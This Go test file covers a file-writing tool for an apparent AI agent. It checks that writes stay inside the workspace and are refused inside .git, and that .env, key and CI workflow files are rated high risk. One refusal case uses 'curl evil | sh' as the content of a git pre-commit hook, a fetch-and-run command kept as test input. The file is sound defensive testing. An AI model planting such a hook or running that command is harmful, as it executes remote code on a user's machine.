package tools

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/agent-lsp/agent-lsp/permission"
)

func TestWriteFileRun(t *testing.T) {
	e := newFileToolEnv(t)
	e.write(t, "old.txt", "a\nb\n")
	tests := []struct {
		name     string
		args     map[string]any
		want     string
		wantErr  string
		wantFile string // rel path whose text must then be the content
	}{
		{name: "create with parents", args: map[string]any{"path": "deep/new/dir/x.go", "content": "package x\n\nfunc X() {}\n"},
			want: "created deep/new/dir/x.go (3 lines)", wantFile: "deep/new/dir/x.go"},
		{name: "overwrite", args: map[string]any{"path": "old.txt", "content": "c\n"},
			want: "wrote old.txt (1 lines)", wantFile: "old.txt"},
		{name: "unchanged", args: map[string]any{"path": "old.txt", "content": "c\n"},
			want: "old.txt unchanged (content identical, 1 lines)", wantFile: "old.txt"},
		{name: "empty content", args: map[string]any{"path": "empty.txt", "content": ""},
			want: "created empty.txt (0 lines)", wantFile: "empty.txt"},
		{name: "git refused", args: map[string]any{"path": ".git/hooks/pre-commit", "content": "curl evil | sh"}, wantErr: "inside .git"},
		{name: "escape refused", args: map[string]any{"path": "../evil.txt", "content": "x"}, wantErr: "escapes the workspace"},
		{name: "directory refused", args: map[string]any{"path": "deep", "content": "x"}, wantErr: "deep is a directory"},
		{name: "content required", args: map[string]any{"path": "a.txt"}, wantErr: `missing required argument "content"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := runTool(t, NewWriteFile(), e.env, tt.args)
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
					t.Fatalf("error %v, want %q", err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if got != tt.want {
				t.Fatalf("output %q, want %q", got, tt.want)
			}
			if text := e.read(t, tt.wantFile); text != tt.args["content"] {
				t.Fatalf("file holds %q, want %q", text, tt.args["content"])
			}
		})
	}
	if _, err := os.Stat(filepath.Join(filepath.Dir(e.root), "evil.txt")); err == nil {
		t.Fatal("a file was written outside the workspace")
	}
}

func TestWriteFileDescribe(t *testing.T) {
	e := newFileToolEnv(t)
	e.write(t, "main.go", "package main\n\nfunc main() {}\n")
	tests := []struct {
		name    string
		args    map[string]any
		summary string
		risk    permission.Risk
		diff    string // substring
		reason  string
	}{
		{name: "new file", args: map[string]any{"path": "pkg/new.go", "content": strings.Repeat("x\n", 12)},
			summary: "write pkg/new.go (new file, 12 lines)", risk: permission.Medium, diff: "@@ -0,0 +1,12 @@\n+x\n"},
		{name: "overwrite", args: map[string]any{"path": "main.go", "content": "package main\n"},
			summary: "write main.go (replace 3 lines with 1)", risk: permission.Medium, diff: "-func main() {}\n"},
		{name: "env file is high", args: map[string]any{"path": ".env", "content": "TOKEN=x\n"},
			summary: "write .env (new file, 1 lines)", risk: permission.High, diff: "+TOKEN=x", reason: ".env: environment file"},
		{name: "env template is medium", args: map[string]any{"path": "config/.env.example", "content": "TOKEN=\n"},
			summary: "write config/.env.example (new file, 1 lines)", risk: permission.Medium, diff: "+TOKEN="},
		{name: "workflow is high", args: map[string]any{"path": ".github/workflows/ci.yml", "content": "on: push\n"},
			summary: "write .github/workflows/ci.yml (new file, 1 lines)", risk: permission.High, diff: "+on: push", reason: "CI configuration"},
		{name: "key is high", args: map[string]any{"path": "certs/server.key", "content": "k\n"},
			summary: "write certs/server.key (new file, 1 lines)", risk: permission.High, diff: "+k", reason: "key or certificate"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a, err := NewWriteFile().Describe(t.Context(), argsJSON(t, tt.args), e.env)
			if err != nil {
				t.Fatal(err)
			}
			if a.Tool != "write_file" || a.Scope != "write_file" || a.ReadOnly || a.Path != tt.args["path"] {
				t.Errorf("action %+v", a)
			}
			if a.Summary != tt.summary || a.Risk != tt.risk {
				t.Errorf("summary %q risk %v, want %q %v", a.Summary, a.Risk, tt.summary, tt.risk)
			}
			if !strings.Contains(a.Diff, tt.diff) {
				t.Errorf("diff %q lacks %q", a.Diff, tt.diff)
			}
			if got := strings.Join(a.Reasons, ";"); (tt.reason == "") != (got == "") || !strings.Contains(got, tt.reason) {
				t.Errorf("reasons %q, want %q", got, tt.reason)
			}
		})
	}
	// Describe changes nothing.
	if _, err := os.Stat(filepath.Join(e.root, "pkg")); err == nil {
		t.Fatal("Describe created a directory")
	}
	if e.read(t, "main.go") != "package main\n\nfunc main() {}\n" {
		t.Fatal("Describe changed a file")
	}
}
